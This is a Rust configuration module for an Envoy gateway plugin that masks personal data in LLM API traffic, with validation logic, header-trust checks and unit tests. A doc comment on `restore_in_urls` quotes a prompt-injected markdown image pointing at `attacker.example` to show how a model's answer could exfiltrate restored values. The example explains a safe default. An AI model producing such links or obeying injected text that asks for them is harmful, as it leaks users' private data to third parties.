//! The plugin configuration: the one Veil document (`veil_core::VeilConfig`: detection and
//! bodies) with its `gateway` part, defined here: what the Envoy filter needs beyond detection
//! (where the vault is, whose data a request carries, what to do with each kind, how to
//! fail). `veil scan --config` and the Istio manifests' tests read the same type, so one
//! parser checks all three.

use std::collections::BTreeMap;

use serde::Deserialize;
use veil_core::config::{ConfigError, GatewayPart, VeilConfig};
use veil_kinds::kind::{is_valid_custom_label, Entity};

/// The whole plugin configuration document.
pub type PluginConfig = VeilConfig<GatewayConfig>;

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct GatewayConfig {
    #[serde(default)]
    pub vault: VaultEndpoint,
    #[serde(default)]
    pub tenant: TenantSource,
    /// Where the scope (user, conversation) whose values these are comes from.
    #[serde(default)]
    pub scope: ScopeSource,
    /// The key Envoy's `jwt_authn` filter writes the verified payload under
    /// (its `payload_in_metadata`), for `jwt_claim` sources.
    #[serde(default = "default_jwt_payload")]
    pub jwt_payload_in_metadata: String,
    /// Request bodies larger than this are not scanned: see `over_limit`.
    #[serde(default = "default_max_body")]
    pub max_body_bytes: usize,
    /// What a body over `max_body_bytes` gets: `reject` (413, the default) or `pass`
    /// (forwarded unscanned, counted; for routes that carry bulk uploads, never prompts).
    #[serde(default)]
    pub over_limit: RejectOrPass,
    /// Buffered (JSON or text) responses larger than this are not held for rehydration: they
    /// go to the client as the provider sent them, tokens in place (they reveal nothing), and
    /// are counted. Keep it under Envoy's `per_connection_buffer_limit_bytes`, or Envoy resets
    /// the stream first. Streamed (SSE) responses are never held, so it does not apply to them.
    #[serde(default = "default_max_body")]
    pub max_response_bytes: usize,
    /// What a JSON body that does not parse gets: `reject` (400, the default) or
    /// `scan_as_text` (masked as plain text, so nothing leaves unscanned).
    #[serde(default)]
    pub invalid_json: InvalidJson,
    /// What a request body of a type Veil cannot read (multipart, binary, none given) gets:
    /// `reject` (415, the default) or `pass` (forwarded unscanned, counted; for routes that
    /// carry file uploads).
    #[serde(default)]
    pub unknown_content_type: RejectOrPass,
    /// What a request gets when the vault cannot tokenize: `closed` (503, the default) or
    /// `open` (forwarded unmasked; for teams that rank availability over privacy).
    #[serde(default)]
    pub failure_mode: FailureMode,
    /// Per-kind action; kinds not listed are tokenized.
    #[serde(default)]
    pub actions: BTreeMap<String, Action>,
    /// Named per-route overrides; an Envoy route selects one with its metadata
    /// (`filter_metadata: {veil: {route: NAME}}`).
    #[serde(default)]
    pub routes: BTreeMap<String, RouteOverride>,
    /// The tokens each VM remembers (keyed by a salted hash, never the value), so values
    /// sent again need no callout.
    #[serde(default)]
    pub token_cache: TokenCacheConfig,
    /// Restore tokens that stand inside a URL in an answer (a link, an image, a query
    /// string). Off by default: a prompt-injected `![x](https://attacker.example/?q=TOKEN)`
    /// would otherwise carry the real value to a third party when the client renders it.
    #[serde(default)]
    pub restore_in_urls: bool,
    /// The request's query string: scanned like a body, never rewritten.
    #[serde(default)]
    pub query: QueryConfig,
    /// A system instruction added to each request of an API that has a place for one.
    #[serde(default)]
    pub system_instruction: SystemInstruction,
}

/// What Veil adds to the system instruction of each request (nothing by default): the
/// operator's own `text` (a persona, house rules), and with `placeholders` the built-in
/// sentence asking the model to repeat placeholders exactly. Added after the scan (never
/// taken for the user's data), in each API's own place for it, once.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SystemInstruction {
    #[serde(default)]
    pub text: Option<String>,
    #[serde(default)]
    pub placeholders: bool,
}

/// The longest `system_instruction.text`: an instruction, not a document.
const MAX_INSTRUCTION_BYTES: usize = 16 * 1024;

impl SystemInstruction {
    /// The text to add, if any.
    pub fn text(&self) -> Option<String> {
        let builtin = self
            .placeholders
            .then_some(veil_core::providers::PLACEHOLDER_INSTRUCTION);
        match (self.text.as_deref(), builtin) {
            (Some(own), Some(b)) => Some(format!("{own}\n\n{b}")),
            (Some(own), None) => Some(own.to_string()),
            (None, Some(b)) => Some(b.to_string()),
            (None, None) => None,
        }
    }
}

/// A value detected in the query string is refused (`reject`, 400 naming the kind) or
/// forwarded (`pass`, counted). Parameters in `skip` are not scanned: a provider's own
/// credential (Gemini's `key`) is not a value to refuse.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct QueryConfig {
    #[serde(default)]
    pub detected: RejectOrPass,
    #[serde(default = "default_query_skip")]
    pub skip: Vec<String>,
}

impl Default for QueryConfig {
    fn default() -> Self {
        QueryConfig {
            detected: RejectOrPass::Reject,
            skip: default_query_skip(),
        }
    }
}

/// Gemini's API key, and the API version Azure OpenAI asks for (a date).
fn default_query_skip() -> Vec<String> {
    vec!["key".into(), "api-version".into()]
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TokenCacheConfig {
    /// 0 turns the cache off: every value goes to the vault.
    #[serde(default = "default_cache_entries")]
    pub max_entries: usize,
    /// How long a token is reused without asking the vault; an erasure in the vault takes
    /// effect at the gateway within this.
    #[serde(default = "default_cache_ttl")]
    pub ttl_seconds: u64,
}

impl Default for TokenCacheConfig {
    fn default() -> Self {
        TokenCacheConfig {
            max_entries: default_cache_entries(),
            ttl_seconds: default_cache_ttl(),
        }
    }
}

fn default_cache_entries() -> usize {
    10_000
}
fn default_cache_ttl() -> u64 {
    60
}

/// What a route may change. Absent fields keep the plugin-wide value; `actions` entries are
/// merged over the plugin-wide ones.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RouteOverride {
    pub tenant: Option<TenantSource>,
    pub scope: Option<ScopeSource>,
    pub max_body_bytes: Option<usize>,
    pub over_limit: Option<RejectOrPass>,
    pub max_response_bytes: Option<usize>,
    pub invalid_json: Option<InvalidJson>,
    pub unknown_content_type: Option<RejectOrPass>,
    pub failure_mode: Option<FailureMode>,
    pub restore_in_urls: Option<bool>,
    pub query: Option<QueryConfig>,
    pub system_instruction: Option<SystemInstruction>,
    #[serde(default)]
    pub actions: BTreeMap<String, Action>,
}

impl Default for GatewayConfig {
    fn default() -> Self {
        GatewayConfig {
            vault: VaultEndpoint::default(),
            tenant: TenantSource::default(),
            scope: ScopeSource::default(),
            jwt_payload_in_metadata: default_jwt_payload(),
            max_body_bytes: default_max_body(),
            over_limit: RejectOrPass::Reject,
            max_response_bytes: default_max_body(),
            invalid_json: InvalidJson::Reject,
            unknown_content_type: RejectOrPass::Reject,
            failure_mode: FailureMode::Closed,
            actions: BTreeMap::new(),
            routes: BTreeMap::new(),
            token_cache: TokenCacheConfig::default(),
            restore_in_urls: false,
            query: QueryConfig::default(),
            system_instruction: SystemInstruction::default(),
        }
    }
}

fn default_jwt_payload() -> String {
    "jwt_payload".into()
}

fn default_max_body() -> usize {
    1 << 20
}

/// The vault as an Envoy cluster.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct VaultEndpoint {
    #[serde(default = "default_cluster")]
    pub cluster: String,
    #[serde(default = "default_authority")]
    pub authority: String,
    /// The vault API key for this gateway's tenant(s).
    #[serde(default)]
    pub api_key: String,
    /// Instead of `api_key`: the name of a variable in the wasm VM's environment that holds
    /// the key (Envoy: `vm_config.environment_variables`; Istio: the WasmPlugin's
    /// `vmConfig.env` with `valueFrom: HOST`, which a Secret in the proxy's environment can
    /// fill), so the key need not sit in the plugin configuration.
    #[serde(default)]
    pub api_key_env: Option<String>,
    #[serde(default = "default_timeout")]
    pub timeout_ms: u64,
}

impl Default for VaultEndpoint {
    fn default() -> Self {
        VaultEndpoint {
            cluster: default_cluster(),
            authority: default_authority(),
            api_key: String::new(),
            api_key_env: None,
            timeout_ms: default_timeout(),
        }
    }
}

fn default_cluster() -> String {
    "veil_vault".into()
}
fn default_authority() -> String {
    "veil-vault".into()
}
fn default_timeout() -> u64 {
    2000
}

/// Where a request's tenant comes from: a claim of the JWT that Envoy's `jwt_authn` verified,
/// a header Envoy guarantees (`trusted`), or a fixed value (per route); `default` applies
/// when the header or claim is absent. No tenant at all is a 400.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TenantSource {
    pub header: Option<String>,
    pub jwt_claim: Option<String>,
    #[serde(rename = "static")]
    pub fixed: Option<String>,
    pub default: Option<String>,
    /// The header is set by Envoy in front of Veil, which removes any copy the client sent.
    #[serde(default)]
    pub trusted: bool,
    /// Read a header the client controls anyway (see `check_header_trust`).
    #[serde(default)]
    pub insecure_client_may_forge: bool,
}

/// Where a request's scope (the user or conversation whose values these are) comes from: a
/// verified JWT claim (`sub`, say) or a header Envoy guarantees. A request without one has no
/// identity: its tokens are minted for that request alone and restore nowhere else.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ScopeSource {
    pub header: Option<String>,
    pub jwt_claim: Option<String>,
    /// The header is set by Envoy in front of Veil, which removes any copy the client sent.
    #[serde(default)]
    pub trusted: bool,
    /// Read a header the client controls anyway (see `check_header_trust`).
    #[serde(default)]
    pub insecure_client_may_forge: bool,
}

/// Whether a header source can be believed. A client can send any header; only a header that
/// Envoy itself sets, after removing the client's copy (an authenticating filter in front of
/// Veil), says who the request is from. A configuration must say which it has: `trusted`, or
/// `insecure_client_may_forge`, under which any client can claim any identity and be given
/// another's values (logged at load).
fn check_header_trust(
    at: &str,
    header: Option<&String>,
    trusted: bool,
    insecure: bool,
) -> Result<(), ConfigError> {
    match (header, trusted, insecure) {
            (Some(_), true, true) => Err(ConfigError::new(
                at,
                "give trusted or insecure_client_may_forge, not both",
            )),
            (Some(_), false, false) => Err(ConfigError::new(
                format!("{at}.header"),
                "a client can send this header and claim another user's identity: use jwt_claim, or set trusted: true if Envoy sets the header in front of Veil and removes any copy the client sent (insecure_client_may_forge: true accepts the risk)",
            )),
            (None, true, _) | (None, _, true) => Err(ConfigError::new(
                at,
                "trusted and insecure_client_may_forge apply to header sources only",
            )),
        _ => Ok(()),
    }
}

/// Where a request attribute is read from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source<'a> {
    Header(&'a str),
    JwtClaim(&'a str),
}

impl TenantSource {
    /// The tenant, given a way to read headers and claims.
    pub fn resolve(&self, read: impl Fn(Source<'_>) -> Option<String>) -> Option<String> {
        if let Some(fixed) = &self.fixed {
            return Some(fixed.clone());
        }
        identity_from(&self.header, &self.jwt_claim, read).or_else(|| self.default.clone())
    }
}

impl ScopeSource {
    pub fn resolve(&self, read: impl Fn(Source<'_>) -> Option<String>) -> Option<String> {
        identity_from(&self.header, &self.jwt_claim, read)
    }
}

/// The tenant or scope a request carries in `header` (if configured) or else `jwt_claim`,
/// if valid.
fn identity_from(
    header: &Option<String>,
    jwt_claim: &Option<String>,
    read: impl Fn(Source<'_>) -> Option<String>,
) -> Option<String> {
    match (header, jwt_claim) {
        (Some(h), _) => read(Source::Header(h)),
        (None, Some(c)) => read(Source::JwtClaim(c)),
        (None, None) => None,
    }
    .filter(|v| is_valid_identity(v))
}

/// A tenant or scope value (or a name that reads one): 1 to 256 bytes, no control characters
/// (a JWT claim that is not a string arrives as raw bytes and fails this).
fn is_valid_identity(value: &str) -> bool {
    !value.is_empty() && value.len() <= 256 && !value.chars().any(char::is_control)
}

/// Reject a body Veil cannot scan, or pass it unscanned (counted).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RejectOrPass {
    #[default]
    Reject,
    Pass,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum InvalidJson {
    #[default]
    Reject,
    ScanAsText,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum FailureMode {
    #[default]
    Closed,
    Open,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Action {
    /// Replace with a vault token, restored in the response (the default).
    Tokenize,
    /// Replace with the kind's label (`[CREDIT_CARD]`), irreversibly.
    Redact,
    /// Reject the request with 422, naming the kind.
    Block,
    /// Leave as is.
    Allow,
}

impl GatewayConfig {
    /// The action for a kind.
    pub fn action(&self, entity: &Entity) -> Action {
        self.actions
            .get(entity.as_str())
            .copied()
            .unwrap_or(Action::Tokenize)
    }

    /// The configuration a route gets: the plugin-wide one with the route's override applied,
    /// or `None` when no override has that name.
    pub fn for_route(&self, name: &str) -> Option<GatewayConfig> {
        let o = self.routes.get(name)?;
        let mut merged = self.clone();
        merged.routes.clear();
        if let Some(t) = &o.tenant {
            merged.tenant = t.clone();
        }
        if let Some(s) = &o.scope {
            merged.scope = s.clone();
        }
        if let Some(m) = o.max_body_bytes {
            merged.max_body_bytes = m;
        }
        if let Some(v) = o.over_limit {
            merged.over_limit = v;
        }
        if let Some(m) = o.max_response_bytes {
            merged.max_response_bytes = m;
        }
        if let Some(v) = o.invalid_json {
            merged.invalid_json = v;
        }
        if let Some(v) = o.unknown_content_type {
            merged.unknown_content_type = v;
        }
        if let Some(v) = o.failure_mode {
            merged.failure_mode = v;
        }
        if let Some(v) = o.restore_in_urls {
            merged.restore_in_urls = v;
        }
        if let Some(q) = &o.query {
            merged.query = q.clone();
        }
        if let Some(i) = &o.system_instruction {
            merged.system_instruction = i.clone();
        }
        merged
            .actions
            .extend(o.actions.iter().map(|(k, v)| (k.clone(), *v)));
        Some(merged)
    }

    fn validate_at(&self, at: &str) -> Result<(), ConfigError> {
        for label in self.actions.keys() {
            if Entity::builtin(label).is_none() && !is_valid_custom_label(label) {
                return Err(ConfigError::new(
                    format!("{at}.actions.{label}"),
                    "unknown entity kind",
                ));
            }
        }
        let t = &self.tenant;
        let given = [t.header.is_some(), t.jwt_claim.is_some(), t.fixed.is_some()];
        match given.iter().filter(|g| **g).count() {
            0 if t.default.is_none() => {
                return Err(ConfigError::new(
                    format!("{at}.tenant"),
                    "give header, jwt_claim, static or default",
                ));
            }
            0 | 1 => {}
            _ => {
                return Err(ConfigError::new(
                    format!("{at}.tenant"),
                    "give one of header, jwt_claim and static",
                ));
            }
        }
        let names = [
            ("tenant.header", t.header.as_deref()),
            ("tenant.jwt_claim", t.jwt_claim.as_deref()),
            ("tenant.static", t.fixed.as_deref()),
            ("tenant.default", t.default.as_deref()),
            ("scope.header", self.scope.header.as_deref()),
            ("scope.jwt_claim", self.scope.jwt_claim.as_deref()),
            (
                "jwt_payload_in_metadata",
                Some(&self.jwt_payload_in_metadata),
            ),
        ];
        for (field, value) in names {
            if value.is_some_and(|v| !is_valid_identity(v)) {
                return Err(ConfigError::new(
                    format!("{at}.{field}"),
                    "must be 1 to 256 characters, none of them control characters",
                ));
            }
        }
        if let Some(text) = &self.system_instruction.text {
            if text.trim().is_empty() || text.len() > MAX_INSTRUCTION_BYTES {
                return Err(ConfigError::new(
                    format!("{at}.system_instruction.text"),
                    "must hold some text, at most 16 KiB",
                ));
            }
        }
        if !(1..=3600).contains(&self.token_cache.ttl_seconds) {
            return Err(ConfigError::new(
                "gateway.token_cache.ttl_seconds",
                "must be between 1 and 3600",
            ));
        }
        if !(1..=60_000).contains(&self.vault.timeout_ms) {
            return Err(ConfigError::new(
                "gateway.vault.timeout_ms",
                "must be between 1 and 60000",
            ));
        }
        if self.scope.header.is_some() && self.scope.jwt_claim.is_some() {
            return Err(ConfigError::new(
                format!("{at}.scope"),
                "give header or jwt_claim, not both",
            ));
        }
        check_header_trust(
            &format!("{at}.tenant"),
            t.header.as_ref(),
            t.trusted,
            t.insecure_client_may_forge,
        )?;
        let s = &self.scope;
        check_header_trust(
            &format!("{at}.scope"),
            s.header.as_ref(),
            s.trusted,
            s.insecure_client_may_forge,
        )?;
        if self.vault.api_key_env.is_some() && !self.vault.api_key.is_empty() {
            return Err(ConfigError::new(
                "gateway.vault.api_key_env",
                "give api_key or api_key_env, not both",
            ));
        }
        if self.vault.api_key_env.as_deref() == Some("") {
            return Err(ConfigError::new(
                "gateway.vault.api_key_env",
                "must name a variable",
            ));
        }
        if self.vault.cluster.is_empty() {
            return Err(ConfigError::new(
                "gateway.vault.cluster",
                "must not be empty",
            ));
        }
        if self.max_body_bytes == 0 {
            return Err(ConfigError::new(
                format!("{at}.max_body_bytes"),
                "must be positive",
            ));
        }
        if self.max_response_bytes == 0 {
            return Err(ConfigError::new(
                format!("{at}.max_response_bytes"),
                "must be positive",
            ));
        }
        Ok(())
    }
}

impl GatewayConfig {
    /// The identity sources that read a header the client controls, by field (logged at load).
    pub fn forgeable_sources(&self) -> Vec<String> {
        let mut out = Vec::new();
        let mut add = |at: String, g: &GatewayConfig| {
            if g.tenant.insecure_client_may_forge {
                out.push(format!("{at}.tenant.header"));
            }
            if g.scope.insecure_client_may_forge {
                out.push(format!("{at}.scope.header"));
            }
        };
        add("gateway".into(), self);
        for name in self.routes.keys() {
            let merged = self.for_route(name).expect("the route exists");
            add(format!("gateway.routes.{name}"), &merged);
        }
        out.sort();
        out.dedup();
        out
    }
}

impl GatewayPart for GatewayConfig {
    fn validate(&self) -> Result<(), ConfigError> {
        self.validate_at("gateway")?;
        for name in self.routes.keys() {
            let merged = self.for_route(name).expect("the route exists");
            merged.validate_at(&format!("gateway.routes.{name}"))?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gateway(json: &str) -> Result<GatewayConfig, String> {
        PluginConfig::from_json(&format!(r#"{{"gateway": {json}}}"#))
            .map(|c| c.gateway.unwrap())
            .map_err(|e| e.to_string())
    }

    #[test]
    fn routes_override_the_plugin_wide_settings() {
        let g = gateway(
            r#"{"tenant": {"header": "x-t", "trusted": true}, "actions": {"EMAIL_ADDRESS": "redact"},
                "routes": {"partner": {"tenant": {"static": "partner"}, "failure_mode": "open",
                                       "actions": {"CREDIT_CARD": "block"}}}}"#,
        )
        .unwrap();
        let r = g.for_route("partner").unwrap();
        assert_eq!(r.tenant.fixed.as_deref(), Some("partner"));
        assert_eq!(r.failure_mode, FailureMode::Open);
        assert_eq!(r.action(&Entity::EmailAddress), Action::Redact);
        assert_eq!(r.action(&Entity::CreditCard), Action::Block);
        assert_eq!(g.action(&Entity::CreditCard), Action::Tokenize);
        assert!(g.for_route("other").is_none());
    }

    #[test]
    fn errors_name_the_route_field() {
        let e = gateway(r#"{"tenant": {"default": "d"}, "routes": {"r1": {"max_body_bytes": 0}}}"#)
            .unwrap_err();
        assert!(e.contains("gateway.routes.r1.max_body_bytes"), "{e}");
        let e = gateway(r#"{"tenant": {"default": "d"}, "max_response_bytes": 0}"#).unwrap_err();
        assert!(e.contains("gateway.max_response_bytes"), "{e}");
        let e = gateway(
            r#"{"tenant": {"default": "d"}, "vault": {"api_key": "k", "api_key_env": "K"}}"#,
        )
        .unwrap_err();
        assert!(e.contains("gateway.vault.api_key_env"), "{e}");
        let e =
            gateway(r#"{"tenant": {"default": "d"}, "routes": {"r1": {"bogus": 1}}}"#).unwrap_err();
        assert!(e.contains("bogus"), "{e}");
        let e = gateway(r#"{"tenant": {"header": "x", "jwt_claim": "org"}}"#).unwrap_err();
        assert!(e.contains("gateway.tenant"), "{e}");
        let e = gateway(r#"{"tenant": {"default": "d"}, "invalid_json": "pass"}"#).unwrap_err();
        assert!(e.contains("invalid_json"), "{e}");
        let e = gateway(r#"{"tenant": {"static": ""}}"#).unwrap_err();
        assert!(e.contains("gateway.tenant.static"), "{e}");
        let e =
            gateway(r#"{"tenant": {"default": "d"}, "routes": {"r": {"scope": {"header": ""}}}}"#)
                .unwrap_err();
        assert!(e.contains("gateway.routes.r.scope.header"), "{e}");
        let e = gateway(r#"{"tenant": {"default": "d"}, "vault": {"timeout_ms": 0}}"#).unwrap_err();
        assert!(e.contains("timeout_ms"), "{e}");
        let e =
            gateway(r#"{"tenant": {"default": "d"}, "jwt_payload_in_metadata": ""}"#).unwrap_err();
        assert!(e.contains("jwt_payload_in_metadata"), "{e}");
    }

    #[test]
    fn tenant_and_scope_resolve_from_their_sources() {
        let read = |s: Source<'_>| match s {
            Source::Header("x-t") => Some("from-header".to_string()),
            Source::JwtClaim("org") => Some("from-claim".to_string()),
            Source::JwtClaim("sub") => Some(String::new()),
            _ => None,
        };
        let header = gateway(r#"{"tenant": {"header": "x-t", "trusted": true}}"#).unwrap();
        assert_eq!(header.tenant.resolve(read).as_deref(), Some("from-header"));
        let claim =
            gateway(r#"{"tenant": {"jwt_claim": "org"}, "scope": {"jwt_claim": "sub"}}"#).unwrap();
        assert_eq!(claim.tenant.resolve(read).as_deref(), Some("from-claim"));
        assert_eq!(
            claim.scope.resolve(read),
            None,
            "an empty claim is no scope"
        );
        let fallback =
            gateway(r#"{"tenant": {"header": "x-none", "trusted": true, "default": "d"}}"#)
                .unwrap();
        assert_eq!(fallback.tenant.resolve(read).as_deref(), Some("d"));
        assert_eq!(fallback.scope.resolve(read), None);
        let none = gateway(r#"{"tenant": {"jwt_claim": "tid"}}"#).unwrap();
        assert_eq!(none.tenant.resolve(read), None);
        let odd = |s: Source<'_>| match s {
            Source::Header(_) => Some("x".repeat(257)),
            Source::JwtClaim(_) => Some("\u{1}\u{0}\u{0}\u{0}".to_string()),
        };
        assert_eq!(header.tenant.resolve(odd), None, "too long");
        assert_eq!(
            claim.tenant.resolve(odd),
            None,
            "a number claim's raw bytes"
        );
    }

    #[test]
    fn a_header_the_client_controls_is_refused_unless_the_config_accepts_the_risk() {
        let e = gateway(r#"{"tenant": {"static": "a"}, "scope": {"header": "x-veil-scope"}}"#)
            .unwrap_err();
        assert!(
            e.contains("gateway.scope.header") && e.contains("trusted"),
            "{e}"
        );
        let e = gateway(r#"{"tenant": {"header": "x-tenant"}}"#).unwrap_err();
        assert!(e.contains("gateway.tenant.header"), "{e}");
        let e = gateway(
            r#"{"tenant": {"static": "a"}, "routes": {"r": {"scope": {"header": "x-u"}}}}"#,
        )
        .unwrap_err();
        assert!(e.contains("gateway.routes.r.scope.header"), "{e}");
        let e = gateway(
            r#"{"tenant": {"static": "a"}, "scope": {"jwt_claim": "sub", "trusted": true}}"#,
        )
        .unwrap_err();
        assert!(e.contains("header sources only"), "{e}");

        let trusted =
            gateway(r#"{"tenant": {"static": "a"}, "scope": {"header": "x-u", "trusted": true}}"#)
                .unwrap();
        assert!(trusted.forgeable_sources().is_empty());
        let risky = gateway(
            r#"{"tenant": {"static": "a"}, "scope": {"header": "x-u", "insecure_client_may_forge": true},
                "routes": {"r": {"tenant": {"header": "x-t", "insecure_client_may_forge": true}}}}"#,
        )
        .unwrap();
        assert_eq!(
            risky.forgeable_sources(),
            vec![
                "gateway.routes.r.scope.header",
                "gateway.routes.r.tenant.header",
                "gateway.scope.header"
            ]
        );
    }

    #[test]
    fn no_scope_is_configured_by_default() {
        let g = gateway(r#"{"tenant": {"static": "a"}}"#).unwrap();
        assert!(g.scope.header.is_none() && g.scope.jwt_claim.is_none());
        assert!(!g.restore_in_urls);
        assert_eq!(g.query.skip, vec!["key", "api-version"]);
    }
}
